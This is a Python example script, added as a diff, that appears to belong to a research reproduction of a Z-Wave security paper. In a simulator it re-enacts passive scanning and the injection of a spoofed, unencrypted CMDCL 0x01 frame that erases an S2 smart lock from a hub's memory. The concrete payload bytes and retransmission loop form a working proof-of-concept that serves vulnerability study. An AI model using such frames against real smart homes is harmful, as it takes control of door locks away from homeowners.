@@ -1,0 +1,89 @@
+#!/usr/bin/env python3
+"""The Figure 2 attack scenario: deleting an S2 smart lock from 70 metres.
+
+Re-enacts the paper's end-to-end threat narrative step by step:
+
+1. the homeowner's network runs normally (S2 lock, legacy switch, hub);
+2. an attacker parks ~70 m away with a YardStick-class dongle and passively
+   scans all Z-Wave traffic — S2 encrypts only the application payload, so
+   the home ID and node IDs are readable;
+3. the attacker crafts an *unencrypted* proprietary CMDCL 0x01 payload that
+   erases the lock from the controller's memory (bug #01/#03 family);
+4. the homeowner's app can no longer control the lock — the controller no
+   longer knows it exists — while the attack never broke any cryptography.
+
+Usage::
+
+    python examples/smart_home_attack.py
+"""
+
+from repro.core.fingerprint import PassiveScanner
+from repro.simulator import LOCK_NODE_ID, build_sut
+from repro.zwave import ZWaveFrame
+
+
+def homeowner_locks_door(sut) -> bool:
+    """The app asks the hub to operate the lock; report whether it can."""
+    record = sut.controller.nvm.get(LOCK_NODE_ID)
+    if record is None:
+        return False  # the hub no longer knows the lock exists
+    frame = ZWaveFrame(
+        home_id=sut.profile.home_id,
+        src=sut.controller.node_id,
+        dst=LOCK_NODE_ID,
+        payload=bytes([0x62, 0x01, 0xFF]),
+    )
+    sut.medium.transmit(sut.profile.idx, frame.encode(), 100.0)
+    sut.clock.advance(0.2)
+    return sut.lock.locked
+
+
+def main() -> None:
+    print("=== Figure 2: memory-tampering attack on an S2 smart home ===\n")
+    sut = build_sut("D6", seed=42, attacker_distance_m=70.0)
+    print(f"target       : {sut.profile.brand} {sut.profile.model} hub")
+    print(f"smart lock   : node #{LOCK_NODE_ID}, paired with S2 "
+          f"(granted keys 0x{sut.controller.nvm.get(LOCK_NODE_ID).granted_keys:02X})")
+    print(f"attacker     : dongle at {sut.dongle.position[0]:.0f} m\n")
+
+    print("[1] homeowner locks the door through the app...")
+    assert homeowner_locks_door(sut)
+    print("    -> lock responds, door secured\n")
+
+    print("[2] attacker passively scans the network (120 s)...")
+    scan = PassiveScanner(sut.dongle, sut.clock).scan(duration=120.0)
+    print(f"    -> sniffed {scan.frames_seen} frames; {scan.network_summary}")
+    print("    -> note: S2 hid the payloads but not the addresses\n")
+
+    print("[3] attacker injects the unencrypted CMDCL 0x01 erase payload...")
+    attack = ZWaveFrame(
+        home_id=scan.home_id,
+        src=0x0F,  # spoofed, unused node id
+        dst=scan.controller_node_id,
+        payload=bytes([0x01, 0x0D, LOCK_NODE_ID, 0x03]),  # NVM delete (bug #03)
+    )
+    # At 70 m the link is marginal, so the attacker retransmits until the
+    # controller acknowledges — exactly what a real injection tool does.
+    for attempt in range(1, 21):
+        sut.dongle.inject(attack)
+        sut.clock.advance(0.5)
+        if LOCK_NODE_ID not in sut.controller.nvm:
+            print(f"    -> landed on attempt {attempt} (lossy 70 m link)")
+            break
+    remaining = sut.controller.nvm.node_ids()
+    print(f"    -> controller node table now: {list(remaining)}")
+    assert LOCK_NODE_ID not in remaining
+    print("    -> the S2 smart lock vanished from the hub's memory\n")
+
+    print("[4] homeowner tries to lock the door again...")
+    if not homeowner_locks_door(sut):
+        print("    -> COMMAND FAIL: the hub no longer recognises the lock")
+        print("    -> the homeowner cannot control the door (CVE-2024-50931)\n")
+
+    print("No encryption was broken: the proprietary network-management")
+    print("class accepted unauthenticated plaintext — the specification")
+    print("flaw behind bugs #01-#04 of the paper's Table III.")
+
+
+if __name__ == "__main__":
+    main()
